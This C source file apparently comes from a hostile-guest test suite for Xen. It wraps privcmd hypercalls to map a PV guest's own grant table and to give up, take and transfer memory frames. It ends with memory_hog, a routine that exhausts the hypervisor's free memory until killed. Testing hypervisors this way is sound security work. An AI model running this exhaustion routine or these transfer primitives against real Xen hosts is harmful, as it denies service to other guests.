// SPDX-License-Identifier: GPL-2.0
/*
 * This domain's grant entries and its memory, by hypercalls of our own: what a
 * driver that takes flips does, from user space. For PV guests.
 */
#include <fcntl.h>
#include <sys/ioctl.h>
#include <sys/mman.h>
#include <unistd.h>
#include "hostile.h"

/* /dev/xen/privcmd, as the kernel's header has it. */
struct privcmd_call {
	u64 op;
	u64 arg[5];
};

struct privcmd_entry {
	u64 va;
	u64 mfn;
	u64 pages;
};

struct privcmd_map {
	int count;
	u16 domid;
	struct privcmd_entry *entry;
};

#define PRIVCMD_CALL	_IOC(_IOC_NONE, 'P', 0, sizeof(struct privcmd_call))
#define PRIVCMD_MAP	_IOC(_IOC_NONE, 'P', 2, sizeof(struct privcmd_map))

/* Xen's numbers. */
#define MEMORY_OP		12
#define INCREASE_RESERVATION	0
#define DECREASE_RESERVATION	1
#define GRANT_TABLE_OP		20
#define GRANT_SETUP_TABLE	2
#define GRANT_TRANSFER		4
#define GRANT_QUERY_SIZE	6
#define TRANSFER_BAD_PAGE	-9

struct grant_setup_table {
	u16 domid;
	u32 frames;
	s16 status;
	u64 *list;
};

struct grant_transfer {
	u64 mfn;
	u16 domid;
	u32 ref;
	s16 status;
};

struct grant_query_size {
	u16 domid;
	u32 frames;
	u32 max_frames;
	s16 status;
};

struct memory_reservation {
	u64 *list;
	u64 count;
	u32 order;
	u32 flags;
	u16 domid;
};

#define TABLE_FRAMES	64
#define TABLE_ENTRIES	(PAGE / sizeof(struct sn_accept))

static int privcmd(void)
{
	static int fd;

	if (!fd)
		fd = open("/dev/xen/privcmd", O_RDWR | O_CLOEXEC);
	must(fd > 0, "no /dev/xen/privcmd");

	return fd;
}

long hypercall(u64 op, u64 command, void *data, u64 count)
{
	struct privcmd_call call = {
		.op = op,
		.arg = { command, (unsigned long)data, count },
	};

	return ioctl(privcmd(), PRIVCMD_CALL, &call);
}

void *memory_map(const u64 *mfn, unsigned int count)
{
	struct privcmd_entry entry[TABLE_FRAMES];
	struct privcmd_map map = {
		.count = count,
		.domid = SELF,
		.entry = entry,
	};
	void *mem;

	must(count <= TABLE_FRAMES, "%u frames are too many", count);
	mem = mmap(NULL, count * PAGE, PROT_READ | PROT_WRITE, MAP_SHARED,
		   privcmd(), 0);
	must(mem != MAP_FAILED, "no addresses");
	for (unsigned int i = 0; i < count; i++) {
		entry[i].va = (unsigned long)mem + i * PAGE;
		entry[i].mfn = mfn[i];
		entry[i].pages = 1;
	}
	must(!ioctl(privcmd(), PRIVCMD_MAP, &map),
	     "frames of our own cannot be mapped");

	return mem;
}

void memory_unmap(void *mem, unsigned int count)
{
	munmap(mem, count * PAGE);
}

void memory_give(u64 mfn)
{
	struct memory_reservation reservation = {
		.list = &mfn,
		.count = 1,
		.domid = SELF,
	};

	must(hypercall(MEMORY_OP, DECREASE_RESERVATION, &reservation, 0) == 1,
	     "frame %#lx is not ours to give", mfn);
}

unsigned long memory_get(unsigned int order, unsigned int count)
{
	struct memory_reservation reservation = {
		.count = count,
		.order = order,
		.domid = SELF,
	};
	long got = hypercall(MEMORY_OP, INCREASE_RESERVATION, &reservation, 0);

	return got > 0 ? (unsigned long)got << order : 0;
}

bool memory_take(u64 *mfn)
{
	struct memory_reservation reservation = {
		.list = mfn,
		.count = 1,
		.domid = SELF,
	};

	return hypercall(MEMORY_OP, INCREASE_RESERVATION, &reservation,
			 0) == 1;
}

bool memory_transfer(u64 mfn, unsigned int domid, u32 ref)
{
	struct grant_transfer transfer = {
		.mfn = mfn,
		.domid = domid,
		.ref = ref,
	};

	must(!hypercall(GRANT_TABLE_OP, GRANT_TRANSFER, &transfer, 1) &&
	     transfer.status != TRANSFER_BAD_PAGE,
	     "frame %#lx is not ours to transfer", mfn);
	return !transfer.status;
}

struct sn_accept *accept_entry(u32 ref)
{
	static struct sn_accept *table;
	static u32 entries;
	struct grant_query_size query = { .domid = SELF };
	u64 list[TABLE_FRAMES] = { 0 };
	struct grant_setup_table setup = { .domid = SELF, .list = list };

	if (ref >= entries) {
		must(!hypercall(GRANT_TABLE_OP, GRANT_QUERY_SIZE, &query, 1) &&
		     query.frames <= TABLE_FRAMES, "no size of the grant table");
		setup.frames = query.frames;
		must(!hypercall(GRANT_TABLE_OP, GRANT_SETUP_TABLE, &setup, 1) &&
		     !setup.status, "no list of the grant table's frames");
		table = memory_map(list, setup.frames);
		entries = setup.frames * TABLE_ENTRIES;
	}
	must(ref < entries, "grant %u is beyond the table", ref);

	return &table[ref];
}

/* Take all memory that Xen has, and ask for more until killed. */
void memory_hog(void)
{
	for (;; sleep_ms(5)) {
		while (memory_get(9, 1))
			;
		while (memory_get(0, 256))
			;
	}
}
